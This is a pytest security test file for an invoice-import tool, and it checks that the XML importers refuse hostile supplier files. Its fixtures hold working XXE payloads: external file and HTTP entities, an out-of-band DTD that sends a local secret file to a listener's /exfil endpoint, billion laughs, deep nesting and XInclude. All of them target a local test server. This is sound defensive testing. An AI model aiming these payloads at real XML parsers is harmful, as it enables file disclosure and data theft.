"""Hostile XML (issue 19, part 1): the classic attacks against every XML parser of the product.

Each attack is a supplier's file aimed at a local HTTP listener (and at a secret file on this machine). It goes
through the EHF import service, the CLI (`import ehf`, `import saft`) and Saxon itself; each must be refused
with exit 2 / an import error, with no request reaching the listener, nothing of the secret in the message,
and nothing stored.
"""
from __future__ import annotations

import faulthandler
import sys
import threading
import uuid
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest

from klimainnkjop import paths
from klimainnkjop.importers.errors import ImportRejected
from klimainnkjop.services.invoices import do_import_ehf, read_inputs
from klimainnkjop.services.organisations import do_create_organisation
from klimainnkjop.storage.models import ImportBatch

DATA = Path(__file__).resolve().parent / "data"
NORWEGIAN = DATA / "ehf" / "Norwegian-example-1.xml"
SAFT_EXAMPLE = DATA / "saft" / "ExampleFile_SAF-T_Financial_888888888_20180228235959.xml"
BUYER = "987654325"
HANG_SECONDS = 120
NOTE = "<cbc:Note>Ordered in our booth at the convention.</cbc:Note>"


@pytest.fixture
def listener():
    """An HTTP server on 127.0.0.1 (port 0) in a thread that serves a data-stealing DTD and records every request."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the name http.server calls
            hits.append(self.path)
            secret = self.server.secret
            if self.path.endswith(".dtd"):
                body = (f'<!ENTITY % file SYSTEM "{secret.as_uri()}">'
                        f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{self.server.url}/exfil?d=%file;\'>">'
                        "%eval;%exfil;").encode()
            else:
                body = b"<leak>from the listener</leak>"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield SimpleNamespace(server=server, url=server.url, hits=hits)
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def no_hang():
    """Saxon keeps Python's GIL while it parses: were it ever to fetch from the listener thread again, the thread
    could not answer and the test would hang. A C-level watchdog (faulthandler) ends the run instead, with the
    stack printed."""
    faulthandler.dump_traceback_later(HANG_SECONDS, exit=True, file=sys.__stderr__)
    yield
    faulthandler.cancel_dump_traceback_later()


@pytest.fixture
def secret(tmp_path, listener):
    path = tmp_path / "secret.txt"
    marker = f"TOPSECRET{uuid.uuid4().hex}"
    path.write_text(marker)
    listener.server.secret = path
    return SimpleNamespace(path=path, marker=marker)


@pytest.fixture
def buyer(db):
    return do_create_organisation(orgnr=BUYER, name="Buyercompany ASA", actor="test")


@pytest.fixture
def cli(monkeypatch, capsys):
    """The CLI in-process; its first-run load of reference data is not what these tests are about."""
    from klimainnkjop.cli import main

    monkeypatch.setattr("klimainnkjop.services.reference.do_load_reference_data", lambda **kwargs: None)

    def run(*argv: str) -> tuple[int, str]:
        capsys.readouterr()
        try:
            code = main(list(argv))
        except SystemExit as exc:  # argparse
            code = exc.code
        captured = capsys.readouterr()
        return code, captured.out + captured.err
    return run


def invoice(prolog: str = "", note: str = NOTE, extra: str = "") -> str:
    """The Norwegian example with a prolog after the XML declaration, another first note and extra children."""
    text = NORWEGIAN.read_text(encoding="utf-8")
    declaration, rest = text.split("\n", 1)
    rest = rest.replace(NOTE, note + extra, 1)
    return f"{declaration}\n{prolog}{rest}"


def attacks(url: str, secret: Path) -> dict[str, bytes]:
    file_uri = secret.as_uri()
    laughs = "".join(f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">' for i in range(1, 10))
    deep = 3000
    return {
        "file external entity": invoice(f'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{file_uri}">]>\n',
                                        "<cbc:Note>&xxe;</cbc:Note>").encode(),
        "http external entity": invoice(f'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "{url}/entity.xml">]>\n',
                                        "<cbc:Note>&xxe;</cbc:Note>").encode(),
        "parameter entity": invoice(f'<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "{url}/remote.dtd"> %remote;]>\n'
                                    ).encode(),
        "out-of-band DTD": invoice(f'<!DOCTYPE Invoice SYSTEM "{url}/evil.dtd">\n').encode(),
        "out-of-band DTD after a comment": invoice(f'<!-- hi -->\n<!DOCTYPE Invoice PUBLIC "-//X//Y" '
                                                   f'"{url}/evil.dtd">\n').encode(),
        "out-of-band DTD in UTF-16": invoice(f'<!DOCTYPE Invoice SYSTEM "{url}/evil.dtd">\n')
        .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        "billion laughs": invoice(f'<!DOCTYPE Invoice [<!ENTITY l0 "lol">{laughs}]>\n',
                                  "<cbc:Note>&l9;</cbc:Note>").encode(),
        "undeclared entity without a DOCTYPE": invoice("", "<cbc:Note>&xxe;</cbc:Note>").encode(),
        "deep nesting": invoice("", NOTE, "<cbc:Note>" + "<x>" * deep + "</x>" * deep + "</cbc:Note>").encode(),
        "XInclude of a URL": invoice("", NOTE, f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                               f'href="{url}/include.xml" parse="text"/>').encode(),
        "XInclude of a file": invoice("", NOTE, f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                                f'href="{file_uri}" parse="text"/>').encode(),
    }


ATTACKS = list(attacks("http://x", Path("/x")))


def assert_nothing_stored():
    assert not ImportBatch.objects.with_scopes_disabled().exists()
    assert not list(paths.data_dir().rglob("*.parquet"))
    assert not paths.archive_dir().exists() or not any(p.is_file() for p in paths.archive_dir().rglob("*"))


def assert_refused_cleanly(message: str, file_name: str, listener, secret) -> None:
    assert file_name in message
    assert secret.marker not in message
    assert listener.hits == []
    assert_nothing_stored()


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_ehf_import_service_refuses_the_attack_without_a_request_or_a_read_file(attack, buyer, listener, secret,
                                                                                   tmp_path):
    path = tmp_path / "hostile.xml"
    path.write_bytes(attacks(listener.url, secret.path)[attack])
    with pytest.raises(ImportRejected) as refused:
        do_import_ehf(documents=read_inputs([path]), actor="test")
    assert_refused_cleanly(str(refused.value), "hostile.xml", listener, secret)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_cli_refuses_the_attack_with_exit_2_without_a_request_or_a_read_file(attack, buyer, listener, secret,
                                                                               tmp_path, cli):
    path = tmp_path / "hostile.xml"
    path.write_bytes(attacks(listener.url, secret.path)[attack])
    code, output = cli("import", "ehf", str(path), "--org", BUYER)
    assert code == 2
    assert "Traceback" not in output
    assert_refused_cleanly(output, "hostile.xml", listener, secret)


def test_an_attack_inside_a_zip_among_valid_invoices_refuses_the_whole_import(buyer, listener, secret, tmp_path, cli):
    archive = tmp_path / "batch.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a-valid.xml", NORWEGIAN.read_bytes())
        zf.writestr("b-hostile.xml", attacks(listener.url, secret.path)["out-of-band DTD"])
    code, output = cli("import", "ehf", str(archive), "--org", BUYER)
    assert code == 2
    assert_refused_cleanly(output, "batch.zip!b-hostile.xml", listener, secret)


def test_the_saft_import_refuses_an_out_of_band_dtd_with_exit_2(db, listener, secret, tmp_path, cli):
    text = SAFT_EXAMPLE.read_bytes().decode("utf-8-sig")
    declaration, rest = text.split("\n", 1)
    path = tmp_path / "hostile-saft.xml"
    path.write_text(f'{declaration}\n<!DOCTYPE n1:AuditFile SYSTEM "{listener.url}/evil.dtd">\n{rest}', encoding="utf-8")
    code, output = cli("import", "saft", str(path))
    assert code == 2
    assert "DOCTYPE" in output
    assert_refused_cleanly(output, "hostile-saft.xml", listener, secret)


def test_saxon_itself_opens_no_uri_even_when_handed_a_doctype(secret):
    """Defence in depth: were a DOCTYPE ever to reach Saxon, it fetches nothing (allowedProtocols is empty).
    The DTD's address is a closed port, so a regression fails with a connection error instead of hanging (Saxon
    keeps Python's GIL while it parses, so a listener thread could not answer)."""
    from saxonche import PySaxonApiError

    from klimainnkjop.importers import validation

    for system in ("http://127.0.0.1:9/evil.dtd", secret.path.as_uri()):
        with pytest.raises(PySaxonApiError, match="prohibited"):
            validation.schematron_failures("peppol", f'<!DOCTYPE Invoice SYSTEM "{system}"><Invoice/>')


def test_a_valid_invoice_in_utf16_imports_like_the_same_invoice_in_utf8(buyer, tmp_path, cli):
    utf16 = tmp_path / "utf16.xml"
    utf16.write_bytes(invoice().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    code, output = cli("import", "ehf", str(utf16), "--org", BUYER)
    assert code == 0, output
    assert "1 documents read, 1 added (7 lines)" in output
    assert ImportBatch.objects.with_scopes_disabled().get().lines_added == 7


def test_an_invalid_invoice_in_utf16_is_refused_with_exit_2_naming_the_file_and_rule(buyer, tmp_path, cli):
    broken = invoice().replace("<cbc:PayableAmount currencyID=\"NOK\">", "<cbc:PayableAmount currencyID=\"NOK\">9")
    assert broken != invoice()
    path = tmp_path / "utf16-broken.xml"
    path.write_bytes(broken.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    code, output = cli("import", "ehf", str(path), "--org", BUYER)
    assert code == 2
    assert "utf16-broken.xml" in output and "BR-CO-16" in output and "Traceback" not in output
    assert_nothing_stored()
